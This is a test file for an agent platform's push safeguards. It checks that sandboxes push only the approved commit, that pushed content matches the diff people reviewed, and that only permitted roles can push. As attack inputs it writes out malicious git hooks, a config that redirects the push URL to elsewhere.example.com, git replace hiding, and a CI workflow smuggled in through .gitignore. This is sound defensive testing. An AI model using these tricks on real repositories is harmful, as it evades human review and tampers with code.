import { expect, it } from 'vitest'
import type { ApiRole } from '../../contracts/api-keys.ts'
import type { Caller } from '../../runtime/api/runs/service.ts'
import { until } from '../helpers/until.ts'
import { COMMIT, type PushPlace, pushPlace, WORK } from './push-rig.ts'
import { alice, bob, dataOf, operator, shell } from './service-rig.ts'

const ISSUER = 'https://login.example.com'
const person = (name: string, role: ApiRole = 'user'): Caller => ({
  owner: `${ISSUER}#${name}`,
  role,
  signedInAt: ISSUER,
})

/** Starts a push whose first request to the server waits, so that its sandbox lives with its permission. */
async function pausedPush(place: PushPlace, id: string) {
  let release: () => void = () => undefined
  place.server.intercept = (_request, response) => {
    place.server.intercept = undefined
    release = () => response.writeHead(500).end()
    return true
  }
  const before = place.server.requests.length
  const pushing = place.reasonOf(place.service.pushResults(alice, id, { branch: 'fix' }))
  await until('the push asks the server', () => place.server.requests.length > before)
  const { items } = await place.service.listRuns(alice, { kind: 'command', limit: 10 })
  const sandbox = items.find(({ task }) => task.endsWith(`${id}/fix`))?.id ?? ''
  const end = () => {
    release()
    return pushing
  }
  return { sandbox, end }
}

it('gives a sandbox one commit for one branch, and no other sandbox', async () => {
  const place = await pushPlace()
  const { id } = await place.worked()
  const diff = await place.service.readDiff(alice, id)
  const other = await place.service
    .createSandbox(alice, {
      workspace: { kind: 'git', url: `${place.server.url}/team/app.git` },
      policy: { network_enabled: true },
    } as never)
    .catch(() => undefined)
  // The class of sandboxes without an agent has no destinations here.
  expect(other).toBeUndefined()
  const { sandbox, end } = await pausedPush(place, id)
  const own = `refs/heads/agentweaver/${id}`
  const attack = (ref: string, what = 'HEAD') => `cd /tmp/app && git push origin ${what}:${ref} 2>&1`
  const clone = `git clone -q ${place.server.url}/team/app.git /tmp/app && cd /tmp/app && ${COMMIT} --allow-empty -m evil && cd -`

  const printed = await place.printed(
    alice,
    sandbox,
    [
      clone,
      ...[`${own}/fix`, `${own}/other`, 'refs/heads/main', `refs/heads/agentweaver/${sandbox}/a`].map((ref) =>
        attack(ref),
      ),
    ].join('; '),
  )

  const refusal = `this sandbox may push only the commit ${diff.branch?.commit} to ${own}/fix`
  expect(printed.split(refusal)).toHaveLength(5)
  expect(place.server.refs('team/app')).toEqual(['refs/heads/main'])
  // Another run that works at the same time cannot use the permission.
  const { events } = await place.worked([
    shell(`${COMMIT} --allow-empty -m evil; git push origin HEAD:${own}/fix 2>&1`),
  ])
  expect(JSON.stringify(dataOf(events, 'tool.result'))).toContain('a person pushes the results of this run')
  expect(await end()).toMatch(/failed: git cannot prepare the push/)
  // The sandbox is gone, and its permission with it.
  await expect(place.printed(alice, sandbox, 'true')).rejects.toThrow('has ended')
  // The same push without an attack succeeds.
  await place.service.pushResults(alice, id, { branch: 'fix' })
  expect(place.server.refs('team/app')).toEqual([`${own}/fix`, 'refs/heads/main'])
  expect(place.git('rev-parse', `${own}/fix`)).toBe(diff.branch?.commit)
})

it('pushes the content of the diff, although the run changed its git directory', async () => {
  const place = await pushPlace()
  const hook = "printf '#!/bin/sh\\ngit push origin HEAD:refs/heads/stolen\\n'"
  const { id } = await place.worked([
    shell(
      [
        `echo good > good && git add good && ${COMMIT} -m good`,
        // The replacement hides a file from every git that follows it.
        `real=$(git rev-parse HEAD); echo evil > evil && git add evil && ${COMMIT} -m evil && evil=$(git rev-parse HEAD)`,
        `git replace $evil $real`,
        `for name in pre-push post-commit reference-transaction; do ${hook} > .git/hooks/$name && chmod +x .git/hooks/$name; done`,
        `git config core.hooksPath .git/hooks && git config core.fsmonitor 'touch /tmp/pwned' && git config core.sshCommand 'touch /tmp/pwned'`,
        `git config remote.origin.pushurl https://elsewhere.example.com/a.git && git config url.https://elsewhere.example.com/.insteadOf ${place.server.url}/`,
        `git config filter.x.clean 'echo clean' && git config push.followTags true && echo '* filter=x diff=x' > .git/info/attributes`,
      ].join(' && '),
    ),
  ])
  const shown = (await place.service.readDiff(alice, id)).files.map(({ path }) => path)
  expect(shown.sort()).toEqual(['evil', 'good'])

  await place.service.pushResults(alice, id, { branch: 'fix' })

  const branch = `agentweaver/${id}/fix`
  expect(place.server.refs('team/app')).toEqual([`refs/heads/${branch}`, 'refs/heads/main'])
  expect(place.git('diff', '--name-only', 'main', branch).split('\n')).toEqual(shown)
})

it('pushes nothing if the commits differ from the diff that people saw', async () => {
  const place = await pushPlace()
  const push = (id: string) => place.reasonOf(place.service.pushResults(alice, id, { branch: 'fix' }))
  const hidden = await place.worked([
    shell(
      `mkdir -p .github/workflows && echo ci.yml > .github/workflows/.gitignore && echo evil > .github/workflows/ci.yml && git add -f .github && ${COMMIT} -m a`,
    ),
  ])
  const files = (await place.service.readDiff(alice, hidden.id)).files.map(({ path }) => path)
  expect(files).not.toContain('.github/workflows/ci.yml')
  expect((await place.service.readDiff(alice, hidden.id)).problems[0]).toBe(
    'The commits change files that the diff does not show, such as ignored files: .github/workflows/ci.yml.',
  )
  expect(await push(hidden.id)).toContain(
    'differ from its diff in ".github/workflows/ci.yml". Nothing was pushed',
  )

  // A sandbox that reports another patch, or other commits, than it has.
  const patched = await place.worked()
  const other = await place.worked([shell(`echo other > other && ${COMMIT} --allow-empty -m other`)])
  const blob = async (id: string, name: 'patch' | 'bundle') =>
    Buffer.concat(await Array.fromAsync((await place.store.readBlob(id, name))?.chunks ?? []))
  const write = async (id: string, name: 'patch' | 'bundle', bytes: Buffer) =>
    place.store.writeBlob(
      { runId: id, name, maxBytes: 1e6 },
      (async function* () {
        yield bytes
      })(),
    )
  const patch = await blob(patched.id, 'patch')
  await write(patched.id, 'patch', Buffer.from(patch.toString('latin1').replace('+more', '+less'), 'latin1'))
  expect(await push(patched.id)).toContain('differ from its diff in the content of files')
  await write(patched.id, 'patch', patch)
  const bundle = await blob(patched.id, 'bundle')
  await write(patched.id, 'bundle', await blob(other.id, 'bundle'))
  expect(await push(patched.id)).toMatch(/failed: git cannot prepare the push/)
  expect(place.server.refs('team/app')).toEqual(['refs/heads/main'])
  // With the bundle of the run itself, the push succeeds.
  await write(patched.id, 'bundle', bundle)
  expect(await push(patched.id)).toBe('it succeeded')
})

it('lets only the owner and operators push, and only others if another person must', async () => {
  const place = await pushPlace()
  const { service, reasonOf } = place
  const push = (caller: Caller, id: string) => reasonOf(service.pushResults(caller, id, { branch: 'fix' }))
  const { id } = await place.worked(WORK)
  expect(await push(bob, id)).toContain('there is no run')
  expect(await push({ owner: 'rita', role: 'auditor' }, id)).toContain('An auditor reads runs')
  expect(await push({ owner: 'alice', role: 'auditor' }, id)).toContain('role auditor does not permit this')
  expect(await push({ owner: 'ann', role: 'approver' }, id)).toContain(
    'An approver follows the runs of others',
  )
  expect(place.server.refs('team/app')).toEqual(['refs/heads/main'])
  expect(await push(operator, id)).toBe('it succeeded')

  const [ada, root, eve] = [person('ada'), person('root', 'operator'), person('eve', 'operator')]
  const policy = { approvals: { not_by_owner: true } } as const
  const guarded = (await place.worked(WORK, { caller: ada, policy })).id
  expect(await push(ada, guarded)).toMatch(
    /requires? that another person pushes its result.*You cannot push its result, because .*#ada owns the run\. An operator who is signed in/,
  )
  expect(await push({ ...root, apiKeyId: 'key_1', signedInAt: undefined } as never, guarded)).toContain(
    'An API key cannot push its result',
  )
  expect(await push({ owner: eve.owner, role: 'operator' }, guarded)).toContain('access token of a program')
  expect(place.server.refs('team/app')).toHaveLength(2)
  expect(await push(root, guarded)).toBe('it succeeded')
  expect(place.server.refs('team/app')).toContain(`refs/heads/agentweaver/${guarded}/fix`)
})
